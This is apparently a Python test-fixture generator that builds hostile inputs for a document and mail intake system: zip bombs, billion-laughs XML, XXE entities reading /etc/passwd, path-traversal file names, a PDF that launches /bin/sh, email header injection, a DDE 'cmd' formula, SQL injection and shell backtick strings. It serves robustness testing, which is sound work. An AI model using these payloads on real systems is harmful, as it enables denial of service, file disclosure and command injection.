"""What a stranger may send: documents and mails made to kill, to fill, to mislead. Standard library only.

hostile.py FOLDER writes them all: NNN.name.document and NNN.name.mail. (In a process of its own: a child's peak memory counts its parent's.)

documents() and mails() give (name, bytes); nothing is read from disk, the same bytes every time. Where a file is a report
all the same, it is one for an insats that no test files: what comes of it is a matter of the test.
"""
import base64
import gzip
import io
import os
import struct
import sys
import zipfile
import zlib

import reports

REPORT = reports.Report("Kulturlyftet", "Åsbergs kommun", "1 januari - 31 mars 2026", "Moa Påhitt")
W = reports.W
MIB = 1 << 20


# Archives

def archive(parts, method=zipfile.ZIP_DEFLATED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as target:
        for name, content in parts:
            target.writestr(zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0)), content, zipfile.ZIP_STORED if name == "mimetype" else method)
    return out.getvalue()


def docx_parts(body=None, document=None, **more):
    """The parts of a DOCX; BODY goes into document.xml, or DOCUMENT is it."""
    with zipfile.ZipFile(io.BytesIO(reports.docx(REPORT))) as source:
        parts = {name: source.read(name) for name in source.namelist()}
    if body is not None:
        document = f'<?xml version="1.0" encoding="UTF-8"?><w:document {W}><w:body>'.encode() + body + b"</w:body></w:document>"
    if document is not None:
        parts["word/document.xml"] = document
    parts.update(more)
    return parts


def docx(body=None, document=None, **more):
    return archive(docx_parts(body, document, **more).items())


def bomb(size, fill=b"<w:p/>"):
    """SIZE bytes of well-formed body, compressed piece by piece."""
    pack = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = f'<?xml version="1.0"?><w:document {W}><w:body>'.encode()
    tail = b"</w:body></w:document>"
    piece = fill * (MIB // len(fill))
    out, crc, total = [pack.compress(head)], zlib.crc32(head), len(head)
    while total < size:
        out.append(pack.compress(piece))
        crc, total = zlib.crc32(piece, crc), total + len(piece)
    out += [pack.compress(tail), pack.flush()]
    return b"".join(out), zlib.crc32(tail, crc), total + len(tail)


def raw_archive(entries):
    """ENTRIES: (name, packed, crc, claimed size, method, place or None): nothing is checked, everything may be a lie."""
    out, central = bytearray(), bytearray()
    for name, packed, crc, size, method, place in entries:
        name = name.encode()
        at = len(out) if place is None else place
        if place is None:
            out += struct.pack("<IHHHHHIIIHH", 0x04034b50, 20, 0, method, 0, 0x5c21, crc, len(packed), size, len(name), 0) + name + packed
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014b50, 20, 20, 0, method, 0, 0x5c21, crc, len(packed), size, len(name),
                               0, 0, 0, 0, 0, at) + name
    start = len(out)
    out += central
    out += struct.pack("<IHHHHIIH", 0x06054b50, 0, 0, len(entries), len(entries), len(central), start, 0)
    return bytes(out)


def stored(parts):
    return [(name, content, zlib.crc32(content), len(content), 0, None) for name, content in parts.items()]


def with_document(packed, crc, size, method=8):
    parts = docx_parts()
    del parts["word/document.xml"]
    return raw_archive(stored(parts) + [("word/document.xml", packed, crc, size, method, None)])


def overlapping():
    """Every entry's data is the same bytes of the file."""
    parts = docx_parts()
    packed, crc, size = bomb(8 * MIB)
    first = stored(parts)
    entries = first[:]
    place = sum(30 + len(name.encode()) + len(data) for name, data, *_ in first)
    entries.append(("word/b0.xml", packed, crc, size, 8, None))
    entries += [(f"word/b{i}.xml", packed, crc, size, 8, place) for i in range(1, 2000)]
    return raw_archive(entries)


def nested(depth):
    content = docx()
    for i in range(depth):
        content = archive([(f"{i}.zip", content)])
    return content


# XML

def paragraph(text):
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>".encode()


def doctype(declarations, text="&a;"):
    return (f'<?xml version="1.0"?><!DOCTYPE w:document [{declarations}]><w:document {W}><w:body>'.encode() +
            paragraph(text) + b"</w:body></w:document>")


def laughs():
    names = "abcdefghij"
    lines = ['<!ENTITY a "ha">'] + [f'<!ENTITY {names[i]} "{("&" + names[i - 1] + ";") * 10}">' for i in range(1, 10)]
    return doctype("".join(lines), "&j;")


def external_relations(scheme):
    rels = ('<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
            f'Target="{scheme}" TargetMode="External"/><Relationship Id="r2" '
            'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" '
            'Target="../../../../etc/passwd"/></Relationships>').encode()
    return docx(**{"word/_rels/document.xml.rels": rels})


def tables(depth):
    return b"<w:tbl><w:tr><w:tc>" * depth + paragraph("djupt") + b"</w:tc></w:tr></w:tbl>" * depth


# PDF

def pdf(objects, trailer=b"/Root 1 0 R", tail=b""):
    """OBJECTS: number → bytes."""
    out, places = bytearray(b"%PDF-1.7\n"), {}
    for number, content in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    start, top = len(out), max(objects) + 1
    out += b"xref\n0 %d\n" % top
    for number in range(top):
        out += b"%010d %05d %c \n" % (places.get(number, 0), 0 if number in places else 65535, b"n" if number in places else b"f")
    return bytes(out + b"trailer\n<< /Size %d %s >>\nstartxref\n%d\n%%%%EOF\n" % (top, trailer, start) + tail)


def stream(content, extra=b""):
    packed = zlib.compress(content, 9)
    return b"<< /Length %d /Filter /FlateDecode %s >>\nstream\n%s\nendstream" % (len(packed), extra, packed)


def page_pdf(content, resources=b"/Font << /F1 5 0 R >>", box=b"[0 0 595 842]", more=None, contents=None):
    return pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
                3: b"<< /Type /Page /Parent 2 0 R /MediaBox %s /Contents 4 0 R /Resources << %s >> >>" % (box, resources),
                4: contents or stream(content), 5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>", **(more or {})})


def pdf_pages(count):
    kids = b" ".join(b"4 0 R" for _ in range(count))
    return pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Count %d /Kids [%s] >>" % (count, kids),
                4: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 6 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
                5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>", 6: stream(b"BT /F1 9 Tf 9 9 Td (sida) Tj ET")})


def forms_that_fan_out():
    more = {}
    for i in range(10):
        below = 7 + i
        more[6 + i] = stream(b"/X Do " * 10, b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X %d 0 R >> >>" % below)
    more[16] = stream(b"BT /F1 9 Tf (ha) Tj ET", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /Font << /F1 5 0 R >> >>")
    return page_pdf(b"/X Do", b"/XObject << /X 6 0 R >>", more=more)


def double_flate():
    twice = zlib.compress(zlib.compress(b"\0" * (256 * MIB), 9), 9)
    return b"<< /Length %d /Filter [/FlateDecode /FlateDecode] >>\nstream\n%s\nendstream" % (len(twice), twice)


TEXT = b"BT /F1 12 Tf 72 700 Td (Kvartalsrapport) Tj ET"


def documents():
    good, good_pdf = reports.docx(REPORT), reports.pdf(REPORT)
    # archives
    yield "zip-bomb-document", with_document(*bomb(320 * MIB))
    yield "zip-bomb-styles", docx(**{"word/styles.xml": b"<a>" + b" " * (300 * MIB) + b"</a>"})
    packed, crc, size = bomb(256 * MIB)
    yield "zip-says-100-bytes", with_document(packed, crc, 100)
    yield "zip-says-4-gib", with_document(*(zlib.compress(b"<a/>")[2:-4], zlib.crc32(b"<a/>"), 0xFFFFFFF0))
    yield "zip-wrong-crc", with_document(zlib.compress(docx_parts()["word/document.xml"])[2:-4], 0x12345678, len(docx_parts()["word/document.xml"]))
    yield "zip-overlapping", overlapping()
    yield "zip-nested-30", nested(30)
    yield "zip-100000-entries", raw_archive([(f"{i}", b"", 0, 0, 0, None) for i in range(65000)] + stored(docx_parts()))
    yield "zip-two-documents", raw_archive(stored(docx_parts()) + stored({"word/document.xml": b"<a/>"}))
    yield "zip-names", archive(list(docx_parts().items()) + [("../../../../tmp/x", b"x"), ("/etc/passwd", b"x"), ("a\\..\\b", b"x"), ("\x1b[2J", b"x")])
    yield "zip-method-99", with_document(b"x" * 100, 0, 100, 99)
    yield "zip-encrypted-flag", good.replace(b"PK\x03\x04\x14\x00\x00\x00", b"PK\x03\x04\x14\x00\x01\x00").replace(b"PK\x01\x02\x14\x03\x14\x00\x00\x00", b"PK\x01\x02\x14\x03\x14\x00\x01\x00")
    yield "zip-comment-eocd", good[:-2] + struct.pack("<H", 22) + b"PK\x05\x06" + bytes(18)
    yield "zip-of-reports", archive([(f"{i}.docx", good) for i in range(200)])
    yield "zip-quine-like", archive([("word/document.xml", good)])
    # XML
    yield "xml-laughs", docx(document=laughs())
    yield "xml-quadratic", docx(document=doctype(f'<!ENTITY a "{"x" * 100000}">', "&a;" * 10000))
    yield "xml-external-file", docx(document=doctype('<!ENTITY a SYSTEM "file:///etc/passwd">'))
    yield "xml-external-http", docx(document=doctype('<!ENTITY a SYSTEM "http://192.0.2.1/x">'))
    yield "xml-parameter-entity", docx(document=doctype('<!ENTITY % p SYSTEM "http://192.0.2.1/x.dtd"> %p;', "x"))
    yield "xml-xinclude", docx(b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd" parse="text"/>')
    yield "xml-depth-100000", docx(b"<w:p>" * 100000 + b"</w:p>" * 100000)
    yield "xml-depth-tables", docx(tables(5000))
    yield "xml-depth-tables-200", docx(tables(60))
    yield "xml-attributes-300000", docx(b"<w:p " + b" ".join(b'a%d="1"' % i for i in range(300000)) + b"/>")
    yield "xml-namespaces", docx(b"<w:p " + b" ".join(b'xmlns:a%d="u%d"' % (i, i) for i in range(100000)) + b"/>")
    yield "xml-one-text-50-mib", docx(paragraph("å" * (25 * MIB)))
    yield "xml-comment-20-mib", docx(b"<!--" + b"x" * (20 * MIB) + b"-->" + paragraph("x"))
    yield "xml-tag-never-ends", docx(document=b"<" + b"a" * (10 * MIB))
    yield "xml-utf16", docx(document=f'<?xml version="1.0" encoding="UTF-16"?><w:document {W}><w:body><w:p/></w:body></w:document>'.encode("utf-16"))
    yield "xml-utf7", docx(document=b'<?xml version="1.0" encoding="UTF-7"?>+ADw-a/+AD4-')
    yield "xml-nul", docx(paragraph("a\0b"))
    yield "xml-not-closed", docx(document=docx_parts()["word/document.xml"][:-40])
    yield "xml-million-paragraphs", docx(b"<w:p><w:r><w:t>x</w:t></w:r></w:p>" * 1000000)
    yield "xml-cells-300000", docx(b"<w:tbl><w:tr>" + b"<w:tc><w:p/></w:tc>" * 300000 + b"</w:tr></w:tbl>")
    yield "xml-style-loop", docx(**{"word/styles.xml": f'<w:styles {W}><w:style w:type="paragraph" w:styleId="Heading1"><w:basedOn w:val="Heading1"/></w:style></w:styles>'.encode()})
    yield "xml-relations-http", external_relations("http://192.0.2.1/mall.dotm")
    yield "xml-relations-file", external_relations("file:////192.0.2.1/x/mall.dotm")
    yield "xml-field-nesting", docx(b'<w:p>' + b'<w:r><w:fldChar w:fldCharType="begin"/></w:r>' * 50000 + b"</w:p>")
    yield "xml-processing", docx(document=b"<?a " + b"x" * (5 * MIB) + b"?>" + docx_parts()["word/document.xml"])
    yield "docx-escapes", reports.docx(reports.Report("\u202eKultur\u2066lyftet\u200f", "Åsbergs\u009b31m kommun", "kvartal 1 2026"))
    yield "docx-formulas", reports.docx(reports.Report("=HYPERLINK(\"http://192.0.2.1\")", "@SUM(1)", "kvartal 1 2026", name="+46-1"))
    # PDF
    yield "pdf-q-2-million", page_pdf(b"q " * 2000000 + TEXT)
    yield "pdf-deep-arrays", page_pdf(b"[" * 200000 + TEXT)
    yield "pdf-deep-dictionaries", page_pdf(TEXT, more={6: b"<< /A " * 50000 + b"1" + b" >>" * 50000}, resources=b"/Font << /F1 5 0 R >> /X 6 0 R")
    yield "pdf-forms-fan-out", forms_that_fan_out()
    yield "pdf-form-in-itself", page_pdf(b"/X Do", b"/XObject << /X 6 0 R >>", more={6: stream(b"/X Do", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>")})
    yield "pdf-page-tree-loop", pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Count 9 /Kids [2 0 R 2 0 R] /Parent 2 0 R >>"})
    yield "pdf-count-lies", pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Count 2147483647 /Kids [] >>"})
    yield "pdf-30000-pages", pdf_pages(30000)
    yield "pdf-huge-page", page_pdf(TEXT, box=b"[0 0 1e30 1e30]")
    yield "pdf-nan-page", page_pdf(TEXT, box=b"[0 0 -99999999999999 nan]")
    yield "pdf-glyphs-on-one-spot", page_pdf(b"BT /F1 9 Tf " + b"1 0 0 1 50 50 Tm (x) Tj " * 400000 + b"ET")
    yield "pdf-glyphs-spread", page_pdf(b"BT /F1 1 Tf " + b"".join(b"1 0 0 1 %d %d Tm (x) Tj " % (i % 590, i // 590 % 840) for i in range(300000)) + b"ET")
    yield "pdf-double-flate", page_pdf(b"", contents=double_flate())
    yield "pdf-length-in-itself", page_pdf(b"", contents=b"<< /Length 4 0 R >>\nstream\nx\nendstream")
    yield "pdf-prev-loop", page_pdf(TEXT).replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev 9")
    yield "pdf-object-stream-loop", page_pdf(TEXT, more={6: stream(b"1 0 2 5 ", b"/Type /ObjStm /N 99999999 /First 8 /Extends 6 0 R")})
    yield "pdf-font-loop", page_pdf(TEXT, more={5: b"<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding /Identity-H /DescendantFonts [5 0 R] /ToUnicode 5 0 R >>"})
    yield "pdf-javascript", page_pdf(TEXT, more={1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (while(1){}) >> /AA << /O << /S /Launch /F (/bin/sh) >> >> >>"})
    yield "pdf-outline-loop", page_pdf(TEXT, more={1: b"<< /Type /Catalog /Pages 2 0 R /Outlines 6 0 R >>", 6: b"<< /First 6 0 R /Last 6 0 R /Next 6 0 R /Count 9 >>"})
    yield "pdf-image-huge", page_pdf(b"/I Do", b"/XObject << /I 6 0 R >>", more={6: stream(b"\0" * 1000, b"/Type /XObject /Subtype /Image /Width 100000 /Height 100000 /BitsPerComponent 8 /ColorSpace /DeviceRGB")})
    yield "pdf-encrypted", page_pdf(TEXT).replace(b"/Root 1 0 R", b"/Root 1 0 R /Encrypt << /Filter /Standard /V 5 /R 6 /Length 256 /P -4 /O (x) /U (y) >>")
    yield "pdf-no-xref", good_pdf[:good_pdf.rindex(b"xref\n0")]
    yield "pdf-header-only", b"%PDF-1.7\n"
    yield "pdf-late-header", b"\n" * 1000 + good_pdf
    yield "pdf-text-100-mib", page_pdf(b"BT /F1 9 Tf " + (b"(" + b"x" * 50000 + b") Tj ") * 600 + b"ET")
    # others
    yield "rtf-deep", b"{\\rtf1 " + b"{" * 500000 + b"x" + b"}" * 500000
    yield "rtf-bin", b"{\\rtf1 {\\*\\x\\bin2147483647 abc}} slut}"
    yield "rtf-bin-negative", b"{\\rtf1 \\bin-2147483648 abc \\u-99999999999 ?}"
    yield "html-deep", b"<html><body>" + b"<div>" * 300000 + b"x"
    yield "html-attributes", b"<html><p " + b" ".join(b"a%d=1" % i for i in range(200000)) + b">x</p></html>"
    yield "ole-loop", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + struct.pack("<HHHHH", 0x3e, 3, 0xfffe, 9, 6) + bytes(10) + struct.pack("<IIIIIIII", 1, 0, 0, 0x1000, 0, 1, 0, 0) + struct.pack("<I", 0) * 109 + b"\0" * 5120
    yield "ole-garbage", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 100000
    yield "odt-spaces", archive([("mimetype", b"application/vnd.oasis.opendocument.text"), ("content.xml", b'<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:text><text:p>' + b'<text:s text:c="2147483647"/>' * 1000 + b"</text:p></office:text></office:body></office:document-content>")])
    yield "odt-cells", archive([("mimetype", b"application/vnd.oasis.opendocument.text"), ("content.xml", b'<o:document-content xmlns:o="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:t="urn:oasis:names:tc:opendocument:xmlns:table:1.0"><o:body><o:text><t:table><t:table-row t:number-rows-repeated="1000000"><t:table-cell t:number-columns-repeated="1000000"/></t:table-row></t:table></o:text></o:body></o:document-content>')])
    yield "gzip", gzip.compress(b"\0" * (64 * MIB), mtime=0)
    yield "empty", b""
    yield "one-byte", b"P"
    yield "zeroes", bytes(4 * MIB)
    yield "all-bytes", bytes(range(256)) * 4096
    for i, part in enumerate((0.1, 0.5, 0.9, 0.99)):
        yield f"docx-cut-{i}", good[:int(len(good) * part)]
        yield f"pdf-cut-{i}", good_pdf[:int(len(good_pdf) * part)]
    for step in (97, 211):
        yield f"docx-flipped-{step}", bytes(byte ^ 0x55 if i % step == 60 else byte for i, byte in enumerate(good))
        yield f"pdf-flipped-{step}", bytes(byte ^ 0x55 if i % step == 60 else byte for i, byte in enumerate(good_pdf))


# Mails

TRACE = (b"Received: from mx.kommun.example (mx.kommun.example [192.0.2.25]) by mx.finsam.example with ESMTPS;\r\n"
         b" Tue, 14 Apr 2026 08:00:00 +0000\r\n")


def head(name, sender=b"Moa <moa@asberg.example>", subject=b"Rapport", more=b""):
    return (TRACE + b"From: " + sender + b"\r\nTo: kontakt@finsam.example\r\nSubject: " + subject +
            b"\r\nMessage-ID: <" + name.encode() + b"@asberg.example>\r\nMIME-Version: 1.0\r\n" + more)


def encoded(text):
    return b"=?utf-8?B?" + base64.b64encode(text.encode()) + b"?="


def parts_of(count, part=b"Content-Type: text/plain\r\n\r\nx\r\n"):
    return b'Content-Type: multipart/mixed; boundary="g"\r\n\r\n' + (b"--g\r\n" + part) * count + b"--g--\r\n"


def deep(depth):
    out = bytearray()
    for i in range(depth):
        out += b'Content-Type: multipart/mixed; boundary="g%d"\r\n\r\n--g%d\r\n' % (i, i)
    out += b"Content-Type: text/plain\r\n\r\nlangst in\r\n"
    for i in reversed(range(depth)):
        out += b"--g%d--\r\n" % i
    return bytes(out)


def rfc822(depth):
    return b"".join(b"Content-Type: message/rfc822\r\n\r\nFrom: a@b.example\r\nMIME-Version: 1.0\r\n" for _ in range(depth)) + b"\r\nx\r\n"


def attached(disposition, content=None, encoding=b"base64", body=None):
    content = reports.docx(REPORT) if content is None else content
    body = base64.encodebytes(content).replace(b"\n", b"\r\n") if body is None else body
    return (b'Content-Type: multipart/mixed; boundary="g"\r\n\r\n--g\r\nContent-Type: text/plain\r\n\r\nHej\r\n--g\r\n'
            b"Content-Type: " + reports.DOCX_TYPE.encode() + b"\r\nContent-Transfer-Encoding: " + encoding +
            b"\r\nContent-Disposition: attachment" + disposition + b"\r\n\r\n" + body + b"\r\n--g--\r\n")


def mails():
    """(name, bytes)"""
    text = b"Content-Type: text/plain; charset=utf-8\r\n\r\nHej\r\n"
    plain = attached(b"; filename=r.docx")

    def made(name, body=text, **fields):
        return name, head(name, **fields) + body

    yield made("mime-depth-5000", deep(5000))
    yield made("mime-depth-150", deep(150))
    yield made("mime-rfc822-3000", rfc822(3000))
    yield made("mime-100000-parts", parts_of(100000))
    yield made("mime-3000-attachments", parts_of(3000, b"Content-Type: application/pdf\r\nContent-Disposition: attachment; filename=a.pdf\r\n\r\n%PDF-1.4 x\r\n"))
    yield made("mime-no-end", plain[:-200])
    yield made("mime-boundary-5000", text.replace(b"text/plain", b'multipart/mixed; boundary="' + b"b" * 5000 + b'"'))
    yield made("mime-boundary-missing", b"Content-Type: multipart/mixed\r\n\r\n--\r\nx\r\n")
    yield made("mime-boundary-empty", b'Content-Type: multipart/mixed; boundary=""\r\n\r\n--\r\nx\r\n')
    yield made("mime-encoding-twice", plain.replace(b"Content-Transfer-Encoding: base64", b"Content-Transfer-Encoding: base64\r\nContent-Transfer-Encoding: 7bit"))
    yield made("mime-base64-garbage", attached(b"; filename=r.docx", body=b"!!!?==\xff\xfe" * 50000))
    yield made("mime-base64-never-ends", attached(b"; filename=r.docx", body=b"UEsDBA" * 300000))
    yield made("mime-qp-garbage", attached(b"; filename=r.docx", body=b"=ZZ=\r\n=" * 50000, encoding=b"quoted-printable"))
    yield made("mime-uu-garbage", b"Content-Type: text/plain\r\n\r\nbegin 644 ../../r.docx\r\n" + b"M\xff\xff\r\n" * 5000 + b"end\r\n")
    yield made("mime-unknown-charset", text.replace(b"utf-8", b"x-" + b"y" * 2000))
    yield made("mime-utf7", text.replace(b"utf-8", b"utf-7").replace(b"Hej", b"+ADw-script+AD4-"))
    yield made("mime-external-body", b'Content-Type: message/external-body; access-type=URL; URL="http://192.0.2.1/r.docx"\r\n\r\nContent-Type: application/pdf\r\n\r\n')
    yield made("mime-partial", b"Content-Type: message/partial; id=a; number=1; total=99999999\r\n\r\nx\r\n")
    yield made("mime-tnef-garbage", attached(b"; filename=winmail.dat", b"\x78\x9f\x3e\x22\x01\x00" + b"\x02\xff\xff\xff\x7f" * 2000))
    yield made("mime-smime-garbage", b"Content-Type: application/pkcs7-mime; smime-type=signed-data\r\nContent-Transfer-Encoding: base64\r\n\r\nMIIF////////\r\n")
    yield made("mime-delivery-garbage", b'Content-Type: multipart/report; report-type=delivery-status; boundary="g"\r\n\r\n--g\r\nContent-Type: message/delivery-status\r\n\r\n' + b"Final-Recipient: rfc822; \xff\x00\r\n\r\n" * 3000 + b"--g--\r\n")
    yield made("mime-200-reports", b'Content-Type: multipart/mixed; boundary="g"\r\n\r\n' + b"".join(
        b"--g\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=a%d.docx\r\nContent-Transfer-Encoding: base64\r\n\r\n" % i +
        base64.encodebytes(reports.docx(REPORT)[:1200]).replace(b"\n", b"\r\n") for i in range(200)) + b"--g--\r\n")
    # header fields
    yield made("head-10-mib", more=b"X-Fyll: " + b"x" * (10 * MIB) + b"\r\n")
    yield made("head-200000-fields", more=b"".join(b"X-%d: y\r\n" % i for i in range(200000)))
    yield made("head-folded-forever", more=b"X-A: b\r\n" + b" c\r\n" * 300000)
    yield made("head-20000-received", more=TRACE * 20000)
    yield made("head-references", more=b"References: " + b"<a@b.example> " * 50000 + b"\r\n")
    yield made("head-nul", subject=b"Rap\0port", body=plain)
    yield made("head-bare-cr", subject=b"Rapport\rBcc: offer@annan.example", body=plain)
    yield made("head-8bit", subject=b"R\xe5pp\xff\xfe\xc3", body=plain)
    yield made("head-subject-1-mib", subject=b"S" * MIB, body=plain)
    yield made("head-words-1-mib", subject=b" ".join([encoded("åäö" * 8)] * 20000), body=plain)
    yield made("head-subject-crlf", subject=encoded("Rapport\r\nBcc: offer@annan.example\r\n\r\nKlicka här"), body=plain)
    yield made("head-from-crlf", sender=encoded("Moa\r\nBcc: offer@annan.example") + b" <moa@asberg.example>", body=plain)
    yield made("head-address-crlf", sender=b'"a\\\r\nBcc: x@annan.example" <"moa\\\r\nBcc: x"@asberg.example>', body=plain)
    yield made("head-message-id-crlf", more=b"In-Reply-To: <a@b\r\n\tBcc: x@annan.example>\r\n", body=plain)
    yield made("head-message-id-long", more=b"References: <" + b"a" * 100000 + b"@b.example>\r\n", body=plain)
    yield made("head-terminal", sender=encoded("\x1b]0;ha\x07\x1b[31mMoa\u202e") + b" <moa@asberg.example>", subject=encoded("\x1b[2J\x1b[H\u202eRapport\x9b31m\x07"), body=plain)
    yield made("head-two-from", more=b"From: Karin <karin@storbacken.example>\r\n", body=plain)
    yield made("head-1000-from", sender=b", ".join(b"a%d@annan.example" % i for i in range(1000)), body=plain)
    yield made("head-name-is-address", sender=b'"moa@asberg.example" <annan@annan.example>', body=plain)
    yield made("head-group", sender=b"grupp: a@b.example, c@d.example;", body=plain)
    yield made("head-no-from", sender=b"", body=plain)
    yield made("head-quoted-deep", sender=b"(" * 100000 + b" moa@asberg.example", body=plain)
    yield made("head-format", subject=b"%s%n%s%n%99999999d", body=plain)
    yield made("head-sql", subject=b"'; DROP TABLE mejl; --", body=plain)
    yield "head-none", plain
    yield "head-bom", b"\xef\xbb\xbf" + head("head-bom") + plain
    yield "head-mbox", b"From moa@asberg.example Tue Apr 14 08:00:00 2026\r\n" + head("head-mbox") + plain
    yield "head-lf-only", (head("head-lf-only") + plain).replace(b"\r\n", b"\n")
    yield "mail-empty", b""
    yield "mail-newline", b"\r\n"
    yield "mail-zeroes", bytes(MIB)
    yield "mail-garbage", bytes(range(256)) * 1000
    yield "mail-one-line", b"x" * (5 * MIB)
    # names of files
    names = {"up": b"../../../../etc/cron.d/x.docx", "absolute": b"/etc/passwd", "windows": b"..\\\\..\\\\con.docx", "escape": encoded("\x1b[2Jr\u202excod.exe"),
             "crlf": encoded("r.docx\r\nBcc: offer@annan.example"), "nul": b"r.docx\0.exe", "long": b"n" * 100000 + b".docx", "empty": b"",
             "dash": b"-rf.docx", "dots": b"..", "formula": b"=cmd|'/C calc'!A0.docx", "template": b"{namn}%(insats)s$HOME`id`.docx"}
    for key, value in names.items():
        yield made(f"name-{key}", attached(b'; filename="' + value + b'"', reports.docx(reports.Report("Okänd insats " + key, "Ingen kommun", "kvartal 1 2026"))))
    yield made("name-2231-crlf", attached(b"; filename*=utf-8''r%0D%0ABcc%3A%20offer@annan.example%1B%5B2J.docx"))
    yield made("name-2231-pieces", attached(b"".join(b";\r\n filename*%d=a" % i for i in range(20000))))


def write(folder, makers):
    """MAKERS: (kind, iterator of (name, bytes))."""
    number = 0
    for kind, made in makers:
        for key, content in made:
            number += 1
            with open(os.path.join(folder, f"{number:03}.{key}.{kind}"), "wb") as target:
                target.write(content)


if __name__ == "__main__":
    write(sys.argv[1], (("document", documents()), ("mail", mails())))
